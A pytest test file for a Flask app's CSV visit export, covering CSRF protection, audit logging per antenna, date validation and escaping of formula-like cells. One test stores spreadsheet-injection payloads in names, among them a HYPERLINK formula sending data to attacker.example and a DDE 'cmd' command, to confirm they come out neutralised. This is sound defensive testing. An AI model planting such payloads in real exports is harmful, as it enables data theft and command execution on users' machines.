"""The CSV export of visits: posted with the CSRF token, audited under the
user's own antenna, and no cell can become a formula."""

from __future__ import annotations

import csv
import io

import pytest
from flask.testing import FlaskClient
from sqlalchemy import select
from sqlalchemy.orm import Session

from ledger.models import AuditEntry, Beneficiary, Worker
from tests.extranet.conftest import Scenario, csrf_token, login

PERIOD = {"first": "2026-11-01", "last": "2026-11-30"}


def _exports(session: Session) -> list[AuditEntry]:
    session.expire_all()
    return list(
        session.scalars(select(AuditEntry).where(AuditEntry.action == "visits.exported")).all()
    )


def _post(client: FlaskClient, **data: str) -> tuple[int, str]:
    token = csrf_token(client, "/interventions/aujourdhui")
    answer = client.post("/interventions/export.csv", data={"csrf_token": token, **data})
    return answer.status_code, answer.get_data(as_text=True)


def test_a_link_from_another_site_writes_nothing(
    client: FlaskClient, scenario: Scenario, session: Session
) -> None:
    assert login(client, "resp-a") == 302
    link = "/interventions/export.csv?du=2026-11-01&au=2026-11-30"
    assert client.get(link).status_code == 405
    forged = client.post("/interventions/export.csv", data=PERIOD)  # no token
    assert forged.status_code == 400
    assert _exports(session) == []


@pytest.mark.parametrize(
    ("login_", "antenna_of_query", "expected_tag"),
    [("resp-a", "b", "a"), ("resp-a", None, "a"), ("referent", "a", None), ("admin", "b", None)],
)
def test_the_audit_entry_carries_the_users_own_antenna(
    client: FlaskClient,
    scenario: Scenario,
    session: Session,
    login_: str,
    antenna_of_query: str | None,
    expected_tag: str | None,
) -> None:
    sides = {"a": scenario.a.antenna.id, "b": scenario.b.antenna.id}
    assert login(client, login_) == 302
    data = dict(PERIOD)
    if antenna_of_query:
        data["antenna"] = str(sides[antenna_of_query])
    status, _ = _post(client, **data)
    assert status == 200
    [entry] = _exports(session)
    assert entry.actor == login_
    assert entry.antenna_id == (sides[expected_tag] if expected_tag else None)
    assert entry.details["antenna_filter"] == (
        sides[antenna_of_query] if antenna_of_query else None
    )


def test_a_managers_export_stays_out_of_the_other_antennas_journal(
    client: FlaskClient, scenario: Scenario
) -> None:
    assert login(client, "resp-a") == 302
    assert _post(client, antenna=str(scenario.b.antenna.id), **PERIOD)[0] == 200
    client.post("/deconnexion", data={"csrf_token": csrf_token(client, "/alertes")})
    assert login(client, "resp-b") == 302
    assert "visits.exported" not in client.get("/journal").get_data(as_text=True)


@pytest.mark.parametrize(
    ("status", "data"),
    [
        (400, {"first": "2026-11-30", "last": "2026-11-01"}),
        (400, {"first": "2026-01-01", "last": "2026-11-30"}),
        (400, {"first": "0001-01-01", "last": "0001-01-02"}),
        (400, {"first": "2026-11-01"}),
        (400, {**PERIOD, "antenna": "9" * 25}),
    ],
)
def test_a_bad_period_is_refused(
    client: FlaskClient, scenario: Scenario, session: Session, status: int, data: dict[str, str]
) -> None:
    assert login(client, "referent") == 302
    assert _post(client, **data)[0] == status
    assert _exports(session) == []


def test_formula_looking_names_and_ids_come_out_as_text(
    client: FlaskClient, scenario: Scenario, session: Session
) -> None:
    beneficiary = session.get_one(Beneficiary, scenario.a.beneficiary.id)
    beneficiary.last_name = '=HYPERLINK("http://attacker.example/?x="&A1)'
    beneficiary.first_name = "@SUM(1)"
    worker = session.get_one(Worker, scenario.a.worker.id)
    worker.last_name = "+cmd|' /C calc'!A0"
    worker.first_name = "-2+3"
    session.commit()
    assert login(client, "resp-a") == 302
    status, text = _post(client, **PERIOD)
    assert status == 200
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert rows[0][0] == "intervention"
    cells = [cell for row in rows[1:] for cell in row]
    assert any(cell.startswith("'+cmd") for cell in cells)
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
